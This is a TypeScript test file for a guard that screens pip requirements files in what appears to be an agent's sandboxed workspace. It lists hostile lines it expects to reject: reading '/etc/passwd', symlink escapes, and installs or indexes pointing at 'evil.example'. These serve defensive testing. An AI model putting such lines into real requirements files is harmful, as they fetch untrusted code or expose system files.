import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { screenRequirementsFile } from './screen-requirements-file.js';

describe('screenRequirementsFile', () => {
  let root: string;
  let workspace: string;
  beforeEach(async () => {
    root = await realpath(await mkdtemp(join(tmpdir(), 'codegod-reqs-')));
    workspace = join(root, 'workspace');
    await mkdir(join(workspace, 'pkg'), { recursive: true });
    await mkdir(join(root, 'outside'));
    await symlink(join(root, 'outside'), join(workspace, 'door'));
  });
  afterEach(() => rm(root, { recursive: true, force: true }));

  const screen = async (text: string, extra: Record<string, string> = {}) => {
    for (const [name, content] of Object.entries(extra)) {
      await writeFile(join(workspace, name), content);
    }
    await writeFile(join(workspace, 'requirements.txt'), text);
    return screenRequirementsFile(workspace, join(workspace, 'requirements.txt'), workspace);
  };

  it('accepts names, pins, markers, hashes, comments and nested files inside', async () => {
    const text = [
      '# the app',
      'flask==3.0.0  # web',
      'requests>=2, <3 ; python_version >= "3.8"',
      'pyyaml==6.0 --hash=sha256:abc \\',
      '    --hash=sha256:def',
      '-r more.txt',
      '-c constraints.txt',
      '-e ./pkg',
      '--only-binary :all:',
      '--pre',
      '',
    ].join('\n');
    await expect(
      screen(text, { 'more.txt': 'click\n-rmore.txt\n', 'constraints.txt': 'click<9\n' }),
    ).resolves.toBeUndefined();
  });

  it('refuses options that install elsewhere or take packages from elsewhere', async () => {
    for (const line of [
      '--target /tmp/x',
      '-t/tmp/x',
      '--prefix=/usr/local',
      '--root /',
      '--user',
      '--src /tmp/src',
      '-i https://evil.example/simple',
      '--index-url=https://evil.example/simple',
      '--extra-index-url https://evil.example',
      '-f /tmp/wheels',
      '--find-links=https://evil.example',
      '--trusted-host evil.example',
      '--no-index',
      'flask --install-option=--prefix=/x',
    ]) {
      await expect(screen(`flask\n${line}\n`), line).rejects.toMatchObject({
        code: 'tool-use-refused',
        message: expect.stringContaining('requirements.txt line 2'),
      });
    }
  });

  it('refuses paths and URLs that lead out, and environment variables', async () => {
    for (const line of [
      '-r /etc/passwd',
      '-r/etc/passwd',
      '-r ../x.txt',
      '-r door/x.txt',
      '-c https://evil.example/c.txt',
      '-e git+https://evil.example/x.git',
      '-e ../elsewhere',
      '-e door',
      'evil @ https://evil.example/evil.whl',
      'https://evil.example/evil.whl',
      '/tmp/evil.whl',
      '../evil.whl',
      // pip expands ${VAR} in requirements files.
      `flask==${'$'}{VERSION}`,
    ]) {
      await expect(screen(`${line}\n`), line).rejects.toMatchObject({
        code: expect.stringMatching(/tool-use-refused|path-outside-workspace/),
      });
    }
  });

  it('screens nested files too', async () => {
    await expect(
      screen('-r more.txt\n', { 'more.txt': '--target /tmp/x\n' }),
    ).rejects.toMatchObject({
      message: expect.stringContaining('more.txt line 1: option --target'),
    });
  });
});
